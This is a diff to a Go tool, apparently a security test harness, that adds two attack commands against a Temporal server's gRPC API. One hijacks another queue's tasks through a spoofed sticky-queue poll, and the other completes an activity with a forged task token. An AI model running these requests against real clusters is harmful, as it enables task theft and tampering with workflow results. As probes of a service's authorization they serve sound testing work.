@@ -7,8 +7,11 @@ import (
 	"time"
 
 	commonpb "go.temporal.io/api/common/v1"
+	enumspb "go.temporal.io/api/enums/v1"
 	taskqueuepb "go.temporal.io/api/taskqueue/v1"
 	"go.temporal.io/api/workflowservice/v1"
+	tokenspb "go.temporal.io/server/api/token/v1"
+	"go.temporal.io/server/common/tasktoken"
 	"google.golang.org/grpc"
 	"google.golang.org/grpc/codes"
 	"google.golang.org/grpc/credentials/insecure"
@@ -29,6 +32,8 @@ import (
 //	temporal-poll ADDR NAMESPACE TOKEN QUEUE
 //	temporal-signal ADDR NAMESPACE TOKEN WORKFLOW-ID SIGNAL
 //	temporal-terminate ADDR NAMESPACE TOKEN WORKFLOW-ID
+//	temporal-poll-sticky ADDR NAMESPACE TOKEN QUEUE NORMAL-QUEUE
+//	temporal-complete ADDR NAMESPACE TOKEN WORKFLOW-ID (a made-up task token)
 func init() {
 	attacks["temporal-list"] = temporalAttack(0, func(ctx context.Context, c workflowservice.WorkflowServiceClient, ns string, a []string) (proto.Message, error) {
 		return c.ListWorkflowExecutions(ctx, &workflowservice.ListWorkflowExecutionsRequest{Namespace: ns})
@@ -50,6 +55,21 @@ func init() {
 		defer cancel()
 		return c.PollActivityTaskQueue(actx, &workflowservice.PollActivityTaskQueueRequest{
 			Namespace: ns, TaskQueue: &taskqueuepb.TaskQueue{Name: a[0]}, Identity: "attacker"})
+	})
+	attacks["temporal-poll-sticky"] = temporalAttack(2, func(ctx context.Context, c workflowservice.WorkflowServiceClient, ns string, a []string) (proto.Message, error) {
+		// Matching knows a sticky queue by its name alone: a "sticky"
+		// poll of another queue's name would take its tasks.
+		ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
+		defer cancel()
+		return c.PollWorkflowTaskQueue(ctx, &workflowservice.PollWorkflowTaskQueueRequest{Namespace: ns, Identity: "attacker",
+			TaskQueue: &taskqueuepb.TaskQueue{Name: a[0], Kind: enumspb.TASK_QUEUE_KIND_STICKY, NormalName: a[1]}})
+	})
+	attacks["temporal-complete"] = temporalAttack(1, func(ctx context.Context, c workflowservice.WorkflowServiceClient, ns string, a []string) (proto.Message, error) {
+		tok, err := tasktoken.NewSerializer().Serialize(&tokenspb.Task{WorkflowId: a[0], RunId: "00000000-0000-0000-0000-000000000001", ScheduledEventId: 5, ActivityId: "1"})
+		if err != nil {
+			return nil, err
+		}
+		return c.RespondActivityTaskCompleted(ctx, &workflowservice.RespondActivityTaskCompletedRequest{Namespace: ns, TaskToken: tok, Identity: "attacker"})
 	})
 	attacks["temporal-signal"] = temporalAttack(2, func(ctx context.Context, c workflowservice.WorkflowServiceClient, ns string, a []string) (proto.Message, error) {
 		return c.SignalWorkflowExecution(ctx, &workflowservice.SignalWorkflowExecutionRequest{Namespace: ns,
